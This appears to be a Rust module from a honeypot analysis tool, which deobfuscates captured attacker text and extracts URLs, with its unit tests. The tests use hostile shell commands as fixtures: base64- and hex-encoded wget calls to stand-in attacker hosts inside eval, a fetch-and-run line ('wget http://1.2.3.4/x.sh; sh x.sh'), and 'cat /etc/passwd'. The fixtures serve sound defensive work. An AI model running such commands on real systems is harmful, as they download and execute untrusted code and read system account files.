//! URL extraction from honeypot text
//!
//! Text is deobfuscated first, then scanned for `http(s)://` and `www.`
//! locators.

use regex::Regex;
use std::collections::HashSet;
use std::sync::LazyLock;

use crate::deobfuscate;

static URL_REGEX: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"https?://[^\s<>"]+|www\.[^\s<>"]+"#).unwrap()
});

/// Extract the set of URLs mentioned in `text`, including obfuscated ones.
///
/// Trailing `;` (shell statement separators) are stripped from each match.
pub fn extract_urls(text: &str) -> HashSet<String> {
    let text = deobfuscate(text);
    match_urls(&text)
}

/// Match URLs in already-deobfuscated text.
pub fn match_urls(text: &str) -> HashSet<String> {
    URL_REGEX
        .find_iter(text)
        .map(|m| m.as_str().trim_end_matches(';').to_string())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_extract_base64() {
        let cmd = "eval $(echo d2dldCAtTyAvdG93bi9lcG93bGRhdGUucGhwIGh0dHA6Ly93ZWIuYXR0YWNrZXIuY29tL3VwaGk= | base64 -d)";
        let urls = extract_urls(cmd);
        assert!(urls.contains("http://web.attacker.com/uphi"));
    }

    #[test]
    fn test_extract_hex() {
        let cmd = r#"echo -e "\x77\x67\x65\x74 \x68\x74\x74\x70\x3a\x2f\x2f\x77\x65\x62\x2e\x65\x76\x69\x6c\x2e\x63\x6f\x6d""#;
        let urls = extract_urls(cmd);
        assert!(urls.contains("http://web.evil.com"));
    }

    #[test]
    fn test_extract_hxxp() {
        let urls = extract_urls("curl hxxp://example.com/evil");
        assert!(urls.contains("http://example.com/evil"));
    }

    #[test]
    fn test_extract_defanged_wget() {
        let urls = extract_urls("w{x}get http://bad.com/bad.sh");
        assert!(urls.contains("http://bad.com/bad.sh"));
    }

    #[test]
    fn test_trailing_semicolons_stripped() {
        let urls = extract_urls("cd /tmp; wget http://1.2.3.4/x.sh;; sh x.sh");
        assert_eq!(urls.len(), 1);
        assert!(urls.contains("http://1.2.3.4/x.sh"));
    }

    #[test]
    fn test_www_and_delimiters() {
        let urls = extract_urls(r#"<a href="www.bad.org/p">x</a> https://s.example/a"#);
        assert!(urls.contains("www.bad.org/p"));
        assert!(urls.contains("https://s.example/a"));
        assert_eq!(urls.len(), 2);
    }

    #[test]
    fn test_duplicates_collapse() {
        let urls = extract_urls("wget http://a.com/x; curl http://a.com/x");
        assert_eq!(urls.len(), 1);
    }

    #[test]
    fn test_no_urls() {
        assert!(extract_urls("").is_empty());
        assert!(extract_urls("cat /etc/passwd").is_empty());
    }

    #[test]
    fn test_extraction_is_idempotent() {
        let inputs = [
            "eval $(echo d2dldCAtTyAvdG93bi9lcG93bGRhdGUucGhwIGh0dHA6Ly93ZWIuYXR0YWNrZXIuY29tL3VwaGk= | base64 -d)",
            r"echo -e '\x68\x74\x74\x70\x3a\x2f\x2f\x65\x76\x69\x6c\x2e\x69\x6f'",
            "curl hxxp://example.com/evil; w{x}get http://bad.com/bad.sh",
        ];
        for input in inputs {
            assert_eq!(extract_urls(input), extract_urls(&deobfuscate(input)));
        }
    }
}
